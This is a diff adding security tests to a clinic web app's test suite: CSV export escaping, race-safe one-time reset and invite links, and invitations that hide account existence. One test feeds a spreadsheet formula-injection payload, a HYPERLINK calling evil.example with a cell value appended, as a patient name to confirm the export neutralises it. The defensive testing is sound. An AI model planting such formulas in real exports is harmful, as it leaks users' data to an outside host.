@@ -10,8 +10,10 @@ import re
 import socket
 import subprocess
 import sys
+import threading
 import time
 import uuid
+from concurrent.futures import ThreadPoolExecutor
 from datetime import date
 from pathlib import Path
 from typing import Any
@@ -176,8 +178,8 @@ def test_from_the_admins_link_to_a_patients_first_session(browser: Browser, tmp_
         page.get_by_role("link", name="Start from the planner's suggestion").click()
         page.get_by_role("button", name="Assign this program").click()
         expect(page.get_by_role("status")).to_contain_text("The program is assigned")
-        page.wait_for_function("[...document.querySelectorAll('.chart img')].every((i) => i.complete && i.naturalWidth)"
-                               )  # fmt: skip
+        page.wait_for_function("() => [...document.querySelectorAll('.chart img')]"
+                               ".every((i) => i.complete && i.naturalWidth)")  # fmt: skip
         screenshot(page, "clinic-patient")
         with page.expect_response(lambda r: "/handout.pdf" in r.url) as sheet:  # the program as a home sheet
             page.locator("#print").click()
@@ -432,3 +434,58 @@ def test_a_served_app_keeps_its_start_up_objects_out_of_the_collectors_way(tmp_p
     assert done.returncode == 0, done.stderr
     default, tuned, frozen = map(int, done.stdout.split())
     assert (default, tuned) == (700, YOUNG_OBJECTS_BEFORE_COLLECTING) and frozen > 10_000
+
+
+def test_the_clinic_export_never_hands_a_spreadsheet_a_formula(database_url: str) -> None:
+    """A patient named like a formula is written as text beside the others' names and emails."""
+    app = create_app(database_url, multi_user=True)
+    accounts = Accounts(open_store(database_url).engine)
+    doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
+    name = '=HYPERLINK("http://evil.example/?"&C3,"Open")'
+    eve = _patient(accounts, doc.id, "eve@example.org", name)
+    open_store(database_url).for_person(eve).start_session(date.today(), {"items": []}, None)
+    rows = list(csv.reader(io.StringIO(_signed_in_as(app, accounts, doc.id).get("/clinic/export.csv").text)))
+    assert rows[1][1] == "'" + name, "shown as typed, after the apostrophe that keeps it text"
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
+
+
+def test_a_one_time_link_sent_many_times_at_once_works_once(database_url: str) -> None:
+    """Six parallel password resets with one link, and two parallel joins with one invitation: one of each goes
+    through, the others get the page that says the link was used, and none is a server error."""
+    with LiveServer(database_url, multi_user=True) as server:
+        accounts = Accounts(open_store(database_url).engine)
+        doc = accounts.create("doc@example.org", Role.CLINICIAN, "Dr Doc", PASSWORD)
+        for path, token, count, form in (
+            ("/reset", accounts.issue_link("reset", doc.email or "", Role.CLINICIAN, None, doc.id), 6, {}),
+            ("/join", accounts.issue_link("invite", "sam@example.org", Role.PATIENT, doc.id), 2, {"name": "Sam"}),
+        ):
+            start = threading.Barrier(count)
+
+            def use(n: int, path: str = path, token: str = token, form: dict[str, str] = form,
+                    start: threading.Barrier = start) -> httpx.Response:  # fmt: skip
+                with httpx.Client(base_url=server.url, cookies={"backstretch_csrf": "t"}) as client:
+                    start.wait()
+                    return client.post(f"{path}?token={token}", data={**form, "password": f"{PASSWORD} {n}",
+                                       "again": f"{PASSWORD} {n}", "csrf": "t"})  # fmt: skip
+
+            with ThreadPoolExecutor(count) as pool:
+                answers = list(pool.map(use, range(count)))
+            assert sorted(a.status_code for a in answers) == [303] + [410] * (count - 1), path
+            assert all("This link was used already" in a.text for a in answers if a.status_code == 410)
+        winner = [a for a in answers if a.status_code == 303]
+        assert len(winner) == 1 and accounts.by_email("sam@example.org") is not None
+
+
+def test_inviting_an_email_does_not_tell_whether_it_has_an_account(database_url: str) -> None:
+    app, accounts, doc, _, _ = _clinic_with_two_patients(database_url)
+    other = accounts.create("other@example.org", Role.CLINICIAN, "Dr Other", PASSWORD)
+    clinic = _signed_in_as(app, accounts, doc.id)
+    answers = [clinic.post("/clinic/invite", data={"email": email}) for email in
+               ("new@example.org", "amy@example.org", other.email or "")]  # fmt: skip
+    assert [a.status_code for a in answers] == [200, 200, 200]
+    assert all("/join?token=" in a.text and "already" not in a.text for a in answers)
+    join = re.search(r'value="http://testserver(/join\?token=[^"]+)"', answers[2].text)
+    assert join, answers[2].text
+    used = TestClient(app).post(join.group(1), data={"name": "X", "password": PASSWORD, "again": PASSWORD},
+                                headers={"X-CSRF-Token": "t"}, cookies={"backstretch_csrf": "t"})  # fmt: skip
+    assert used.status_code == 422 and "please sign in instead" in used.text, "the link's owner is told to sign in"
